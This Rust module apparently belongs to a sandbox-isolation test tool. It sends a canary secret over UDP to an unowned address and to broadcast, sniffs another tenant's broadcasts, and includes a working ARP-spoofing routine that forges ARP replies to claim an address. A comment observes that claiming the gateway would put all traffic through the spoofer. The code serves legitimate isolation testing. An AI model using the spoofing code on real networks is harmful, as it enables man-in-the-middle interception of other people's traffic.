//! Attacks on a neighbour: another sandbox, which the same step was told to
//! start.
//!
//! It sends the secret to an address that nobody has, and to everybody. Where
//! the sandboxes have networks of their own, both go over Ethernet; in the
//! network of the host they go over the loopback interface, so that nobody on
//! a real network is bothered, and no ARP is needed to hear them.

use std::io::{Write, stdin, stdout};
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::os::fd::AsFd;

use nix::poll::{PollFd, PollFlags, poll};
use process::{Call, Result};

use crate::outcome::Finding;
use crate::packet::{self, Interface};
use crate::service::Service;
use crate::spec::Spec;

/// Whose the neighbour is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Tenant {
    /// Started by the same words as the attacker.
    Same,
    /// Started by those for another tenant, if the step knows tenants.
    Other,
}

/// Where the loopback interface stands for an Ethernet.
const NOBODYS: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 66);
const EVERYBODYS: Ipv4Addr = Ipv4Addr::new(127, 255, 255, 255);

/// What the neighbour is to know.
#[derive(Debug, clap::Args)]
pub struct NeighbourOptions {
    /// Where the canaries are
    #[arg(long, value_name = "SPEC")]
    canary: Spec,
}

/// The neighbour: prints what it sends to, reads the secret from standard
/// input, and sends it until the input ends.
pub fn neighbour(options: &NeighbourOptions) -> Result<()> {
    let (claim, broadcast) = match packet::own_ethernet(&options.canary)? {
        Some(interface) => (interface.last_address(), interface.broadcast()),
        None => (NOBODYS, EVERYBODYS),
    };
    let mut secret = String::new();
    stdin().read_line(&mut secret).call("read(standard input)")?;
    writeln!(stdout(), "{claim}").call("write(standard output)")?;
    let port = options.canary.get("service")?;
    let socket =
        UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).call("bind(UDP)")?;
    socket.set_broadcast(true).call("setsockopt(SO_BROADCAST)")?;
    loop {
        for to in [claim, broadcast] {
            // That nobody answers for the address is an error once in a
            // while, which the next datagram clears.
            let _ = socket.send_to(secret.trim_end().as_bytes(), (to, port));
        }
        let input = stdin();
        let mut fds = [PollFd::new(input.as_fd(), PollFlags::POLLIN)];
        if poll(&mut fds, Service::PERIOD).call("poll(standard input)")? > 0 {
            return Ok(());
        }
    }
}

/// Claims an address by ARP, and reads what comes: arp(7).
///
/// Who asks for the owner of an address believes every answer, and one that
/// nobody asked for. Here the address is one that nobody has; that of the
/// gateway would do as well, and then all traffic goes through the liar.
pub(crate) fn arp_spoof(canary: &Spec) -> Result<Finding> {
    let claim: Ipv4Addr = canary.get_if_planted("claim")?;
    // What is for everybody, we get without a lie. The address is the last
    // field of an IPv4 header, behind that of Ethernet.
    let is_for_us =
        |frame: &[u8]| frame.get(30..34) == Some(&claim.octets()[..]);
    let Some(interface) = packet::own_ethernet(canary)? else {
        let socket = packet::socket(None)?;
        return packet::listen(canary, &socket, |frame| Ok(is_for_us(frame)));
    };
    let socket = packet::socket(Some(&interface))?;
    let frame = arp_reply(&interface, claim);
    packet::listen(canary, &socket, |received| {
        // What is repeated is believed at last.
        packet::send_frame(&socket, &frame)?;
        Ok(is_for_us(received))
    })
}

/// "CLAIM is at our Ethernet address", to everybody: RFC 826.
fn arp_reply(interface: &Interface, claim: Ipv4Addr) -> Vec<u8> {
    let (everybody, mac) = ([0xff; 6], interface.mac);
    let mut frame = [everybody, mac].concat();
    frame.extend((libc::ETH_P_ARP as u16).to_be_bytes());
    frame.extend([0, 1, 8, 0, 6, 4, 0, 2]); // Ethernet, IPv4, a reply.
    for hardware in [mac, everybody] {
        frame.extend(hardware);
        frame.extend(claim.octets());
    }
    frame
}

/// Hears what a container of another tenant sends to its whole network.
///
/// It takes no privilege: a bridge gives such a frame to everybody.
pub(crate) fn other_tenant(canary: &Spec) -> Result<Finding> {
    let _: Ipv4Addr = canary.get_if_planted("claim")?;
    let port = canary.get("service")?;
    let broadcast = packet::own_ethernet(canary)?
        .map_or(EVERYBODYS, |interface| interface.broadcast());
    packet::receive(canary, SocketAddrV4::new(broadcast, port))
}
